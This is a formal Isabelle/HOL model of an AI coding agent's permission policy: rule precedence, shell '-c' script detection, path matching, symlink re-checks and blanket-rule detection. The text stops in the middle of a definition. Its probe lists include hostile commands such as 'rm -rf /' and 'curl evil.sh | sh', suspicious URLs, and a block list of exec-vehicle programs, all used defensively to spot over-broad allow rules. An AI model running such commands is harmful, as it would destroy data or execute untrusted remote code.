(* ===== verification/Permission_Policy.thy ===== *)
theory Permission_Policy
  imports Shell_Split Permission_Rules Web_Access Unix_Path
begin

text \<open>
  \<open>permission/policy.rs\<close> of \<open>xai-grok-workspace\<close>: what the configured rules say about an access. Outside
  code is gathered in the record \<open>policy_env\<close>: the shell grammar, the glob compiler and matcher, the
  host of a URL, Unicode lower-casing, and the three file-system queries of the symlink re-check.
  Everything the source decides is modelled: precedence of the rules, the forms of a path, the gate
  over every command of a script, the conjunctive allow, the re-check of a followed symlink, and the
  detection of blanket rules.
\<close>

section \<open>The outside\<close>

datatype link_metadata = IsSymlink | NotSymlink | MetadataNotFound | MetadataError

record 'pat policy_env =
  pe_parse :: shell_parser
  pe_glob_new :: "rstr \<Rightarrow> 'pat option"
  pe_glob_match :: "'pat \<Rightarrow> bool \<Rightarrow> rstr \<Rightarrow> bool"
  pe_url_host :: "rstr \<Rightarrow> rstr option"
  pe_lower :: "rstr \<Rightarrow> rstr"
  pe_canonicalize :: "Component list \<Rightarrow> Component list option"
  pe_symlink_metadata :: "Component list \<Rightarrow> link_metadata"
  pe_read_link :: "Component list \<Rightarrow> rstr option"

section \<open>Decisions\<close>

datatype GateDecision = GateReject rstr | AskRuleMatch | AskFailClosed

definition into_decision :: "GateDecision \<Rightarrow> Decision" where
  "into_decision g = (case g of GateReject reason \<Rightarrow> Reject reason | _ \<Rightarrow> Ask)"

definition gate_is_ask :: "GateDecision \<Rightarrow> bool" where
  "gate_is_ask g \<longleftrightarrow> g = AskRuleMatch \<or> g = AskFailClosed"

definition gate_rank :: "GateDecision \<Rightarrow> nat" where
  "gate_rank g = (case g of GateReject _ \<Rightarrow> 3 | AskRuleMatch \<Rightarrow> 2 | AskFailClosed \<Rightarrow> 1)"

definition combine_gate_decisions :: "GateDecision option \<Rightarrow> GateDecision option \<Rightarrow> GateDecision option" where
  "combine_gate_decisions a b =
     (case (a, b) of
        (None, other) \<Rightarrow> other
      | (other, None) \<Rightarrow> other
      | (Some x, Some y) \<Rightarrow> Some (if gate_rank y \<le> gate_rank x then x else y))"

definition decision_rank :: "Decision \<Rightarrow> nat" where
  "decision_rank d =
     (case d of
        Reject _ \<Rightarrow> 3 | PolicyDeny _ \<Rightarrow> 3 | Ask \<Rightarrow> 2 | Allow \<Rightarrow> 1 | FollowupMessage _ \<Rightarrow> 0 | DCancelled \<Rightarrow> 0)"

definition combine_decisions :: "Decision option \<Rightarrow> Decision option \<Rightarrow> Decision option" where
  "combine_decisions a b =
     (case (a, b) of
        (None, other) \<Rightarrow> other
      | (other, None) \<Rightarrow> other
      | (Some x, Some y) \<Rightarrow> Some (if decision_rank y \<le> decision_rank x then x else y))"

section \<open>Inline shell scripts\<close>

datatype ShellWord = LiteralWord rstr | UntrustedWord

datatype InlineShellScript = NotInline | LiteralScript nat | UntrustedScript | UnrecognizedScript

definition is_potential_inline :: "InlineShellScript \<Rightarrow> bool" where
  "is_potential_inline s = (case s of LiteralScript _ \<Rightarrow> True | UntrustedScript \<Rightarrow> True | _ \<Rightarrow> False)"

definition ambiguous_inline :: "bool \<Rightarrow> InlineShellScript" where
  "ambiguous_inline saw_c = (if saw_c then UntrustedScript else UnrecognizedScript)"

definition no_inline :: "bool \<Rightarrow> InlineShellScript" where
  "no_inline unrecognized = (if unrecognized then UnrecognizedScript else NotInline)"

definition finish_literal :: "bool \<Rightarrow> nat \<Rightarrow> InlineShellScript" where
  "finish_literal dynamic_head i = (if dynamic_head then UntrustedScript else LiteralScript i)"

definition literal_at :: "ShellWord list \<Rightarrow> nat \<Rightarrow> rstr option" where
  "literal_at ws i =
     (if i < length ws then (case ws ! i of LiteralWord w \<Rightarrow> Some w | UntrustedWord \<Rightarrow> None) else None)"

function dash_c_loop :: "bool \<Rightarrow> ShellWord list \<Rightarrow> nat \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow> InlineShellScript" where
  "dash_c_loop dyn ws i saw_c unrec =
     (if length ws \<le> i then (if saw_c then UntrustedScript else no_inline unrec)
      else case ws ! i of
             UntrustedWord \<Rightarrow> ambiguous_inline saw_c
           | LiteralWord word \<Rightarrow>
               if word = lit ''--'' \<or> word = lit ''-'' then
                 (if \<not> saw_c then no_inline unrec
                  else if literal_at ws (i + 1) \<noteq> None then finish_literal dyn (i + 1) else UntrustedScript)
               else if \<not> prefix (lit ''-'') word \<and> \<not> prefix (lit ''+'') word then
                 (if saw_c then finish_literal dyn i else no_inline unrec)
               else if word = lit ''--init-file'' \<or> word = lit ''--rcfile'' then
                 (if literal_at ws (i + 1) \<noteq> None then dash_c_loop dyn ws (i + 2) saw_c unrec
                  else ambiguous_inline saw_c)
               else if prefix (lit ''--'') word then
                 (if word \<in> {lit ''--noprofile'', lit ''--norc'', lit ''--posix''}
                  then dash_c_loop dyn ws (i + 1) saw_c unrec
                  else if saw_c then UntrustedScript
                  else dash_c_loop dyn ws (i + 1) saw_c True)
               else if word \<in> {lit ''-o'', lit ''+o'', lit ''-O'', lit ''+O''} then
                 (case literal_at ws (i + 1) of
                    Some value \<Rightarrow> if \<not> prefix (lit ''-'') value then dash_c_loop dyn ws (i + 2) saw_c unrec
                                  else ambiguous_inline saw_c
                  | None \<Rightarrow> ambiguous_inline saw_c)
               else if prefix (lit ''-O'') word then dash_c_loop dyn ws (i + 1) saw_c unrec
               else if prefix (lit ''+O'') word \<or> prefix (lit ''+o'') word then dash_c_loop dyn ws (i + 1) saw_c unrec
               else if prefix (lit ''-o'') word then ambiguous_inline saw_c
               else if prefix (lit ''+'') word then dash_c_loop dyn ws (i + 1) saw_c unrec
               else if 111 \<in> set (tl word) \<or> 79 \<in> set (tl word) then ambiguous_inline saw_c
               else dash_c_loop dyn ws (i + 1) (saw_c \<or> 99 \<in> set (tl word)) unrec)"
  by pat_completeness auto
termination by (relation "measure (\<lambda>(_, ws, i, _, _). length ws - i)") auto

declare dash_c_loop.simps [simp del]

definition shell_program :: "rstr \<Rightarrow> bool" where
  "shell_program w \<longleftrightarrow> base_name w \<in> {lit ''bash'', lit ''sh'', lit ''dash'', lit ''zsh'', lit ''ksh''}"

definition shell_dash_c_script :: "ShellWord list \<Rightarrow> InlineShellScript" where
  "shell_dash_c_script ws =
     (case ws of
        [] \<Rightarrow> NotInline
      | LiteralWord program # _ \<Rightarrow>
          if \<not> shell_program program then NotInline else dash_c_loop False ws 1 False False
      | UntrustedWord # _ \<Rightarrow> dash_c_loop True ws 1 False False)"

section \<open>Paths of a rule\<close>

definition path_match_string :: "rstr \<Rightarrow> rstr" where
  "path_match_string s = map (\<lambda>c. if c = 92 then 47 else c) s"

definition is_tilde_path :: "rstr \<Rightarrow> bool" where
  "is_tilde_path p = (case components p of Normal w # _ \<Rightarrow> prefix [126] w | _ \<Rightarrow> False)"

definition joined_path :: "rstr \<Rightarrow> rstr option \<Rightarrow> rstr" where
  "joined_path p cwd =
     (case cwd of Some c \<Rightarrow> if \<not> is_absolute p then path_join c p else p | None \<Rightarrow> p)"

definition absolute_normalized_path :: "rstr \<Rightarrow> rstr option \<Rightarrow> rstr" where
  "absolute_normalized_path p cwd =
     (if is_tilde_path p then p else path_text (normalize_lexically (components (joined_path p cwd))))"

definition path_has_parent_dir :: "rstr \<Rightarrow> bool" where
  "path_has_parent_dir p \<longleftrightarrow> ParentDir \<in> set (components p)"

text \<open>\<open>Path::strip_prefix\<close>: on components, as \<open>std\<close> compares them.\<close>

definition strip_path_prefix :: "rstr \<Rightarrow> Component list \<Rightarrow> rstr option" where
  "strip_path_prefix p base =
     (if prefix base (components p) then Some (path_text (drop (length base) (components p))) else None)"

definition path_match_forms :: "rstr \<Rightarrow> rstr option \<Rightarrow> rstr list" where
  "path_match_forms p cwd =
     (let abs = absolute_normalized_path p cwd; first = path_match_string abs
      in case cwd of
           Some c \<Rightarrow>
             (case strip_path_prefix abs (normalize_lexically (components c)) of
                Some rel \<Rightarrow>
                  (let rel_s = path_match_string rel
                   in if rel_s = [] \<or> rel_s = [46] then [first, [46], [46, 47]]
                      else [first, [46, 47] @ rel_s, rel_s])
              | None \<Rightarrow> [first])
         | None \<Rightarrow>
             if \<not> is_absolute abs \<and> \<not> path_has_parent_dir abs \<and> \<not> is_tilde_path abs \<and> first \<noteq> [46] \<and> first \<noteq> []
             then [first, [46, 47] @ first] else [first])"

section \<open>Matching a rule\<close>

definition tool_filter_matches :: "AccessKind \<Rightarrow> ToolFilter \<Rightarrow> bool" where
  "tool_filter_matches access flt =
     (case flt of
        AnyTool \<Rightarrow> True
      | BashTool \<Rightarrow> (case access of BashAccess _ \<Rightarrow> True | _ \<Rightarrow> False)
      | EditTool \<Rightarrow> (case access of EditAccess _ \<Rightarrow> True | _ \<Rightarrow> False)
      | ReadTool \<Rightarrow> (case access of ReadAccess _ \<Rightarrow> True | GrepAccess _ _ \<Rightarrow> True | _ \<Rightarrow> False)
      | GrepTool \<Rightarrow> (case access of GrepAccess _ _ \<Rightarrow> True | _ \<Rightarrow> False)
      | McpTool \<Rightarrow> (case access of MCPToolAccess _ _ \<Rightarrow> True | _ \<Rightarrow> False)
      | WebFetchTool \<Rightarrow> (case access of WebFetchAccess _ \<Rightarrow> True | _ \<Rightarrow> False)
      | WebSearchTool \<Rightarrow> (case access of WebSearchAccess _ \<Rightarrow> True | _ \<Rightarrow> False)
      | AgentMessageTool \<Rightarrow> (case access of AgentMessageAccess _ \<Rightarrow> True | _ \<Rightarrow> False))"

text \<open>The flag is \<open>require_literal_separator\<close>: true in a path context, false in a freeform one.\<close>

definition glob_matches :: "'pat policy_env \<Rightarrow> rstr \<Rightarrow> bool \<Rightarrow> 'pat option \<Rightarrow> bool" where
  "glob_matches E txt in_path pat = (case pat of None \<Rightarrow> False | Some p \<Rightarrow> pe_glob_match E p in_path txt)"

definition path_context_matches :: "'pat policy_env \<Rightarrow> rstr \<Rightarrow> 'pat option \<Rightarrow> rstr option \<Rightarrow> bool" where
  "path_context_matches E p matcher cwd \<longleftrightarrow> (\<exists>txt\<in>set (path_match_forms p cwd). glob_matches E txt True matcher)"

definition domain_matches :: "'pat policy_env \<Rightarrow> rstr \<Rightarrow> rstr \<Rightarrow> bool" where
  "domain_matches E pattern url =
     (case pe_url_host E url of
        None \<Rightarrow> False
      | Some host \<Rightarrow>
          (let domain = normalize_domain (pe_lower E) host; np = normalize_domain (pe_lower E) pattern
           in domain = np \<or> suffix (46 # np) domain))"

definition pattern_matches ::
  "'pat policy_env \<Rightarrow> AccessKind \<Rightarrow> PermissionRule \<Rightarrow> 'pat option \<Rightarrow> rstr option \<Rightarrow> bool" where
  "pattern_matches E access rule matcher cwd =
     (case pr_pattern rule of
        None \<Rightarrow> True
      | Some pattern \<Rightarrow>
          if pattern = lit ''*'' then True
          else case access of
                 BashAccess cmd \<Rightarrow>
                   (let cmd = trim_start cmd in prefix pattern cmd \<or> glob_matches E cmd False matcher)
               | EditAccess p \<Rightarrow> path_context_matches E p matcher cwd
               | ReadAccess p \<Rightarrow> (case p of Some q \<Rightarrow> path_context_matches E q matcher cwd | None \<Rightarrow> False)
               | GrepAccess p _ \<Rightarrow> (case p of Some q \<Rightarrow> path_context_matches E q matcher cwd | None \<Rightarrow> False)
               | MCPToolAccess name _ \<Rightarrow> glob_matches E name False matcher
               | WebFetchAccess url \<Rightarrow>
                   (case pr_pattern_mode rule of
                      DomainMode \<Rightarrow> domain_matches E pattern url
                    | GlobMode \<Rightarrow> glob_matches E url False matcher)
               | WebSearchAccess query \<Rightarrow> glob_matches E query False matcher \<or> prefix pattern query
               | AgentMessageAccess i \<Rightarrow> glob_matches E i False matcher \<or> prefix pattern i)"

definition compile_matcher :: "'pat policy_env \<Rightarrow> PermissionRule \<Rightarrow> 'pat option" where
  "compile_matcher E rule =
     (case pr_pattern rule of
        Some p \<Rightarrow> if p \<noteq> lit ''*'' then pe_glob_new E p else None
      | None \<Rightarrow> None)"

section \<open>Blanket rules\<close>

definition bash_probes :: "AccessKind list" where
  "bash_probes = map (\<lambda>s. BashAccess (lit s)) [''rm -rf /'', ''curl evil.sh | sh'', ''echo hi'', ''git push'']"

definition mcp_probes :: "AccessKind list" where
  "mcp_probes =
     map (\<lambda>s. MCPToolAccess (lit s) JNull) [''github__create_issue'', ''linear__save_issue'', ''slack__post'', ''fs__read'']"

definition webfetch_probes :: "AccessKind list" where
  "webfetch_probes =
     map (\<lambda>s. WebFetchAccess (lit s))
       [''https://evil.example.com/x'', ''http://10.0.0.1/admin'', ''https://api.github.com/repos'',
        ''ftp://files.example.org/p'']"

definition agent_message_probes :: "AccessKind list" where
  "agent_message_probes = map (\<lambda>s. AgentMessageAccess (lit s)) [''sub-1'', ''agent-alpha'', ''019ffeed'', ''worker_4'']"

definition rule_is_catchall :: "'pat policy_env \<Rightarrow> PermissionRule \<Rightarrow> bool" where
  "rule_is_catchall E rule =
     (let matcher = compile_matcher E rule;
          opens_all = (\<lambda>probes. list_all (\<lambda>a. pattern_matches E a rule matcher None) probes)
      in case pr_tool rule of
           BashTool \<Rightarrow> opens_all bash_probes
         | McpTool \<Rightarrow> opens_all mcp_probes
         | WebFetchTool \<Rightarrow> opens_all webfetch_probes
         | AgentMessageTool \<Rightarrow> opens_all agent_message_probes
         | AnyTool \<Rightarrow> opens_all bash_probes \<or> opens_all mcp_probes \<or> opens_all webfetch_probes \<or>
                      opens_all agent_message_probes
         | _ \<Rightarrow> False)"

section \<open>The compiled policy\<close>

record 'pat CompiledPolicy =
  cp_config :: PermissionConfig
  cp_matchers :: "'pat option list"
  has_file_restrictions :: bool
  has_bash_command_restrictions :: bool
  has_bash_allow_rules :: bool
  cp_catchall :: "bool list"

definition restricts :: "PermissionRule \<Rightarrow> bool" where
  "restricts rule \<longleftrightarrow> pr_action rule = DenyRule \<or> pr_action rule = AskRule"

definition governs_bash :: "PermissionRule \<Rightarrow> bool" where
  "governs_bash rule \<longleftrightarrow> pr_tool rule = BashTool \<or> pr_tool rule = AnyTool"

definition CompiledPolicy_new :: "'pat policy_env \<Rightarrow> PermissionConfig \<Rightarrow> 'pat CompiledPolicy" where
  "CompiledPolicy_new E config =
     \<lparr>cp_config = config,
      cp_matchers = map (compile_matcher E) (pc_rules config),
      has_file_restrictions = list_ex (\<lambda>r. restricts r \<and> pr_tool r \<in> {ReadTool, EditTool, AnyTool}) (pc_rules config),
      has_bash_command_restrictions = list_ex (\<lambda>r. restricts r \<and> governs_bash r) (pc_rules config),
      has_bash_allow_rules = list_ex (\<lambda>r. pr_action r = AllowRule \<and> governs_bash r) (pc_rules config),
      cp_catchall = map (rule_is_catchall E) (pc_rules config)\<rparr>"

section \<open>Allowing a script\<close>

datatype AllowRuleScope = AnyScope | NarrowOnly

definition EXEC_VEHICLE_HEADS :: "rstr list" where
  "EXEC_VEHICLE_HEADS = map lit
     [''sh'', ''bash'', ''zsh'', ''dash'', ''ksh'', ''fish'', ''deno'', ''bun'', ''julia'', ''rscript'', ''awk'', ''gawk'',
      ''mawk'', ''nawk'', ''nodejs'', ''luajit'', ''phpdbg'', ''php-cgi'', ''pythonw'', ''npx'', ''bunx'', ''pipx'', ''uvx'',
      ''uv'', ''xargs'', ''find'', ''sudo'', ''doas'', ''su'', ''ssh'', ''watch'', ''setsid'', ''flock'', ''chroot'',
      ''nsenter'', ''docker'', ''podman'']"

definition EXEC_VEHICLE_HEAD_FAMILIES :: "rstr list" where
  "EXEC_VEHICLE_HEAD_FAMILIES = map lit [''python'', ''node'', ''ruby'', ''perl'', ''php'', ''lua'']"

definition normalized_command_head :: "rstr list \<Rightarrow> rstr option" where
  "normalized_command_head ws =
     (case ws of
        [] \<Rightarrow> None
      | w # _ \<Rightarrow>
          (let head = to_ascii_lowercase (base_name w)
           in Some (case strip_suffix (lit ''.exe'') head of Some h \<Rightarrow> h | None \<Rightarrow> head)))"

definition version_suffix :: "rstr \<Rightarrow> bool" where
  "version_suffix rest =
     (let core = (case strip_suffix (lit ''t'') rest of Some c \<Rightarrow> c | None \<Rightarrow> rest)
      in list_all (\<lambda>c. is_ascii_digit c \<or> c = 46) core)"

definition head_is_exec_vehicle :: "rstr list \<Rightarrow> bool" where
  "head_is_exec_vehicle ws =
     (case normalized_command_head ws of
        None \<Rightarrow> False
      | Some head \<Rightarrow>
          head \<in> set EXEC_VEHICLE_HEADS \<or>
          list_ex (\<lambda>family. case strip_prefix family head of Some rest \<Rightarrow> version_suffix rest | None \<Rightarrow> False)
            EXEC_VEHICLE_HEAD_FAMILIES)"

definition matches_command_prefix :: "rstr \<Rightarrow> rstr \<Rightarrow> bool" where
  "matches_command_prefix cmd pattern \<longleftrightarrow> cmd = pattern \<or> prefix (pattern @ [32]) cmd"

definition bash_command_matches_pattern :: "'pat policy_env \<Rightarrow> rstr \<Rightarrow> rstr \<Rightarrow> 'pat option \<Rightarrow> bool" where
  "bash_command_matches_pattern E raw_command raw_pattern precompiled =
     (let command = trim_start raw_command; pattern = trim raw_pattern
      in if pattern = [] then False
         else if pattern = lit ''*'' then True
         else if matches_command_prefix command pattern then True
         else case precompiled of
                Some p \<Rightarrow> glob_matches E command False (Some p)
              | None \<Rightarrow> (case pe_glob_new E pattern of
                           Some p \<Rightarrow> glob_matches E command False (Some p)
                         | None \<Rightarrow> False))"

definition bash_allow_pattern_matches :: "'pat policy_env \<Rightarrow> rstr \<Rightarrow> PermissionRule \<Rightarrow> 'pat option \<Rightarrow> bool" where
  "bash_allow_pattern_matches E cmd rule matcher =
     (case pr_pattern rule of
        None \<Rightarrow> True
      | Some p \<Rightarrow> if p = lit ''*'' then True else bash_command_matches_pattern E cmd p matcher)"

definition bash_pattern_matches_command :: "'pat policy_env \<Rightarrow> rstr \<Rightarrow> rstr \<Rightarrow> bool" where
  "bash_pattern_matches_command E pattern command = bash_command_matches_pattern E command pattern None"

definition bash_glob_is_catchall :: "'pat policy_env \<Rightarrow> rstr \<Rightarrow> bool" where
  "bash_glob_is_catchall E pattern =
     list_all (\<lambda>a. case a of BashAccess cmd \<Rightarrow> bash_pattern_matches_command E pattern cmd | _ \<Rightarrow> False) bash_probes"

definition bash_pattern_is_broad :: "rstr \<Rightarrow> bool" where
  "bash_pattern_is_broad raw =
     (let pattern = trim raw
      in pattern \<noteq> [] \<and> (pattern = lit ''*'' \<or> \<not> (\<exists>c\<in>set pattern. is_whitespace c)))"

definition bash_words_allowed ::
  "'pat policy_env \<Rightarrow> 'pat CompiledPolicy \<Rightarrow> AllowRuleScope \<Rightarrow> rstr list \<Rightarrow> bool" where
  "bash_words_allowed E pol scope ws =
     (if ws = [] then False
      else if scope = NarrowOnly \<and> head_is_exec_vehicle ws then False
      else list_ex (\<lambda>((rule, matcher), catchall).
             \<not> (scope = NarrowOnly \<and> catchall) \<and> pr_action rule = AllowRule \<and> governs_bash rule \<and>
             bash_allow_pattern_matches E (join [32] ws) rule matcher)
             (zip (zip (pc_rules (cp_config pol)) (cp_matchers pol)) (cp_catchall pol)))"

definition peel_uncertain :: "NormalizedCommandPeel \<Rightarrow> bool" where
  "peel_uncertain peel \<longleftrightarrow> nc_exhausted peel \<or> nc_ambiguous peel \<or> nc_env_options_uncertain peel"

text \<open>One command of the script; \<open>inner\<close> judges the script of a literal \<open>-c\<close>.\<close>

definition segment_allowed ::
  "'pat policy_env \<Rightarrow> 'pat CompiledPolicy \<Rightarrow> AllowRuleScope \<Rightarrow> (rstr \<Rightarrow> bool) \<Rightarrow> rstr list \<Rightarrow> bool" where
  "segment_allowed E pol scope inner ws =
     (let peel = normalize_command_words ws; inner_words = nc_words peel
      in \<not> peel_uncertain peel \<and> \<not> nc_has_split_string peel \<and>
         bash_words_allowed E pol scope inner_words \<and>
         (case shell_dash_c_script (map LiteralWord inner_words) of
            LiteralScript i \<Rightarrow> inner (inner_words ! i)
          | NotInline \<Rightarrow> True
          | _ \<Rightarrow> False))"

definition script_allowed ::
  "'pat policy_env \<Rightarrow> 'pat CompiledPolicy \<Rightarrow> AllowRuleScope \<Rightarrow> (rstr \<Rightarrow> bool) \<Rightarrow> rstr \<Rightarrow> bool" where
  "script_allowed E pol scope inner cmd =
     (case all_commands_from_script (pe_parse E) cmd of
        None \<Rightarrow> False
      | Some segments \<Rightarrow>
          segments \<noteq> [] \<and> list_all (\<lambda>c. segment_allowed E pol scope inner (pc_words c)) segments)"

primrec bash_chain_fully_allowed ::
  "'pat policy_env \<Rightarrow> 'pat CompiledPolicy \<Rightarrow> AllowRuleScope \<Rightarrow> nat \<Rightarrow> rstr \<Rightarrow> bool" where
  "bash_chain_fully_allowed E pol scope 0 = script_allowed E pol scope (\<lambda>_. False)"
| "bash_chain_fully_allowed E pol scope (Suc depth) =
     script_allowed E pol scope (bash_chain_fully_allowed E pol scope depth)"

definition narrow_allow_authorizes :: "'pat policy_env \<Rightarrow> 'pat CompiledPolicy \<Rightarrow> AccessKind \<Rightarrow> bool" where
  "narrow_allow_authorizes E pol access =
     (case access of
        BashAccess cmd \<Rightarrow>
          has_bash_allow_rules pol \<and> bash_chain_fully_allowed E pol NarrowOnly MAX_INLINE_SHELL_DEPTH cmd
      | _ \<Rightarrow> False)"

section \<open>Evaluating the rules\<close>

definition tool_label :: "ToolFilter \<Rightarrow> rstr" where
  "tool_label t = lit
     (case t of
        AnyTool \<Rightarrow> ''any tool'' | BashTool \<Rightarrow> ''bash'' | EditTool \<Rightarrow> ''edit'' | ReadTool \<Rightarrow> ''read''
      | GrepTool \<Rightarrow> ''grep'' | McpTool \<Rightarrow> ''mcp'' | WebFetchTool \<Rightarrow> ''web_fetch'' | WebSearchTool \<Rightarrow> ''web_search''
      | AgentMessageTool \<Rightarrow> ''agent_message'')"

definition deny_reason :: "PermissionRule \<Rightarrow> rstr" where
  "deny_reason rule =
     (let base = lit ''Denied by permission policy: deny rule on '' @ tool_label (pr_tool rule)
      in case pr_pattern rule of
           Some p \<Rightarrow> base @ lit '' matching '' @ [34] @ p @ [34]
         | None \<Rightarrow> base)"

definition rule_applies ::
  "'pat policy_env \<Rightarrow> AccessKind \<Rightarrow> rstr option \<Rightarrow> PermissionRule \<Rightarrow> 'pat option \<Rightarrow> bool" where
  "rule_applies E access cwd rule matcher \<longleftrightarrow>
     tool_filter_matches access (pr_tool rule) \<and> pattern_matches E access rule matcher cwd"

text \<open>The scan: a deny ends it; the flags record an ask and an allow.\<close>

fun scan_rules ::
  "'pat policy_env \<Rightarrow> AccessKind \<Rightarrow> rstr option \<Rightarrow> (PermissionRule \<times> 'pat option) list \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow>
   rstr + bool \<times> bool" where
  "scan_rules E access cwd [] ask allow = Inr (ask, allow)"
| "scan_rules E access cwd ((rule, matcher) # rest) ask allow =
     (if \<not> rule_applies E access cwd rule matcher then scan_rules E access cwd rest ask allow
      else case pr_action rule of
             DenyRule \<Rightarrow> Inl (deny_reason rule)
           | AskRule \<Rightarrow> scan_rules E access cwd rest True allow
           | AllowRule \<Rightarrow> scan_rules E access cwd rest ask True)"

definition evaluate_lexical_with_cwd ::
  "'pat policy_env \<Rightarrow> 'pat CompiledPolicy \<Rightarrow> AccessKind \<Rightarrow> rstr option \<Rightarrow> Decision option" where
  "evaluate_lexical_with_cwd E pol access cwd =
     (case scan_rules E access cwd (zip (pc_rules (cp_config pol)) (cp_matchers pol)) False False of
        Inl reason \<Rightarrow> Some (Reject reason)
      | Inr (matched_ask, matched_allow) \<Rightarrow>
          if matched_ask then Some Ask
          else case access of
                 BashAccess cmd \<Rightarrow>
                   if has_bash_allow_rules pol \<and> bash_chain_fully_allowed E pol AnyScope MAX_INLINE_SHELL_DEPTH cmd
                   then Some Allow else None
               | _ \<Rightarrow> if matched_allow then Some Allow else None)"

section \<open>Following symlinks\<close>

definition native_file_path :: "AccessKind \<Rightarrow> rstr option" where
  "native_file_path access =
     (case access of
        EditAccess p \<Rightarrow> Some p
      | ReadAccess p \<Rightarrow> p
      | GrepAccess p _ \<Rightarrow> p
      | _ \<Rightarrow> None)"

definition access_with_path :: "AccessKind \<Rightarrow> rstr \<Rightarrow> AccessKind" where
  "access_with_path access p =
     (case access of
        EditAccess _ \<Rightarrow> EditAccess p
      | ReadAccess _ \<Rightarrow> ReadAccess (Some p)
      | GrepAccess _ g \<Rightarrow> GrepAccess (Some p) g
      | a \<Rightarrow> a)"

definition raw_absolute_tool_path :: "rstr \<Rightarrow> rstr option \<Rightarrow> rstr option" where
  "raw_absolute_tool_path p cwd =
     (if is_tilde_path p then None
      else let joined = joined_path p cwd in if is_absolute joined then Some (path_match_string joined) else None)"

fun prefix_is_symlink :: "'pat policy_env \<Rightarrow> Component list \<Rightarrow> Component list \<Rightarrow> bool" where
  "prefix_is_symlink E pre [] = False"
| "prefix_is_symlink E pre (c # cs) =
     (pe_symlink_metadata E (pre @ [c]) = IsSymlink \<or> prefix_is_symlink E (pre @ [c]) cs)"

definition path_has_symlink :: "'pat policy_env \<Rightarrow> rstr \<Rightarrow> bool" where
  "path_has_symlink E p \<longleftrightarrow> is_absolute p \<and> prefix_is_symlink E [] (components p)"

definition MAX_SYMLINK_DEPTH :: nat where "MAX_SYMLINK_DEPTH = 40"

text \<open>The walk; the counter is the number of calls still allowed.\<close>

fun walk_links :: "'pat policy_env \<Rightarrow> nat \<Rightarrow> Component list \<Rightarrow> Component list option" where
  "walk_links E 0 p = None"
| "walk_links E (Suc n) p =
     (case pe_canonicalize E p of
        Some canonical \<Rightarrow> Some canonical
      | None \<Rightarrow>
          if p = [] then None
          else case last p of
                 Normal name \<Rightarrow>
                   (case walk_links E n (butlast p) of
                      None \<Rightarrow> None
                    | Some resolved_parent \<Rightarrow>
                        (let candidate = resolved_parent @ [Normal name]
                         in case pe_symlink_metadata E candidate of
                              MetadataError \<Rightarrow> None
                            | IsSymlink \<Rightarrow>
                                (case pe_read_link E candidate of
                                   None \<Rightarrow> None
                                 | Some target \<Rightarrow>
                                     walk_links E n (components (path_join (path_text resolved_parent) target)))
                            | _ \<Rightarrow> Some candidate))
               | _ \<Rightarrow> None)"

definition resolve_following_symlinks :: "'pat policy_env \<Rightarrow> Component list \<Rightarrow> Component list option" where
  "resolve_following_symlinks E p = walk_links E (MAX_SYMLINK_DEPTH + 1) p"

definition resolve_symlink_target :: "'pat policy_env \<Rightarrow> rstr \<Rightarrow> rstr option" where
  "resolve_symlink_target E p =
     (if \<not> is_absolute p then None
      else map_option (\<lambda>r. path_match_string (path_text (normalize_lexically r)))
             (resolve_following_symlinks E (components p)))"

datatype SymlinkFollow = FollowNone | FollowTarget rstr | FollowUnresolvable

definition follow_absolute_symlink :: "'pat policy_env \<Rightarrow> rstr \<Rightarrow> rstr \<Rightarrow> SymlinkFollow" where
  "follow_absolute_symlink E raw_absolute lexical_absolute =
     (case resolve_symlink_target E raw_absolute of
        Some resolved \<Rightarrow> if resolved \<noteq> lexical_absolute then FollowTarget resolved else FollowNone
      | None \<Rightarrow> if path_has_symlink E raw_absolute then FollowUnresolvable else FollowNone)"

definition native_path_restrictions_apply :: "'pat CompiledPolicy \<Rightarrow> AccessKind \<Rightarrow> bool" where
  "native_path_restrictions_apply pol access =
     list_ex (\<lambda>r. restricts r \<and> tool_filter_matches access (pr_tool r)) (pc_rules (cp_config pol))"

definition escalation :: "Decision option \<Rightarrow> Decision option" where
  "escalation d = (case d of Some (Reject r) \<Rightarrow> d | Some Ask \<Rightarrow> d | _ \<Rightarrow> None)"

definition evaluate_with_cwd_details ::
  "'pat policy_env \<Rightarrow> 'pat CompiledPolicy \<Rightarrow> AccessKind \<Rightarrow> rstr option \<Rightarrow> Decision option \<times> bool" where
  "evaluate_with_cwd_details E pol access cwd =
     (let lexical = evaluate_lexical_with_cwd E pol access cwd
      in case native_file_path access of
           None \<Rightarrow> (lexical, False)
         | Some path \<Rightarrow>
             (case raw_absolute_tool_path path cwd of
                None \<Rightarrow> (lexical, False)
              | Some raw_absolute \<Rightarrow>
                  (case follow_absolute_symlink E raw_absolute
                          (path_match_string (absolute_normalized_path path cwd)) of
                     FollowTarget resolved \<Rightarrow>
                       (combine_decisions lexical
                          (escalation (evaluate_lexical_with_cwd E pol (access_with_path access resolved) cwd)), False)
                   | FollowUnresolvable \<Rightarrow>
                       if native_path_restrictions_apply pol access
                       then (combine_decisions lexical (Some Ask), True) else (lexical, False)
                   | FollowNone \<Rightarrow> (lexical, False))))"

definition evaluate_with_cwd ::
  "'pat policy_env \<Rightarrow> 'pat CompiledPolicy \<Rightarrow> AccessKind \<Rightarrow> rstr option \<Rightarrow> Decision option" where
  "evaluate_with_cwd E pol access cwd = fst (evaluate_with_cwd_details E pol access cwd)"

definition evaluate :: "'pat policy_env \<Rightarrow> 'pat CompiledPolicy \<Rightarrow> AccessKind \<Rightarrow> Decision option" where
  "evaluate E pol access = evaluate_with_cwd E pol access None"

section \<open>The gate over every command of a script\<close>

definition escalate :: "'pat policy_env \<Rightarrow> 'pat CompiledPolicy \<Rightarrow> rstr \<Rightarrow> GateDecision option" where
  "escalate E pol seg =
     (case evaluate E pol (BashAccess seg) of
        Some (Reject reason) \<Rightarrow> Some (GateReject reason)
      | Some Ask \<Rightarrow> Some AskRuleMatch
      | _ \<Rightarrow> None)"

text \<open>One command; \<open>inner\<close> is the gate on the script of a literal \<open>-c\<close> or of a packed \<open>env -S\<close>.\<close>

definition evaluate_command_words ::
  "'pat policy_env \<Rightarrow> 'pat CompiledPolicy \<Rightarrow> (rstr \<Rightarrow> GateDecision option) \<Rightarrow> rstr list \<Rightarrow> GateDecision option" where
  "evaluate_command_words E pol inner raw_words =
     (let peel = normalize_command_words raw_words;
          d0 = (if peel_uncertain peel then Some AskFailClosed else None);
          d1 = combine_gate_decisions d0 (if nc_has_split_string peel then Some AskFailClosed else None);
          inner_words = nc_words peel;
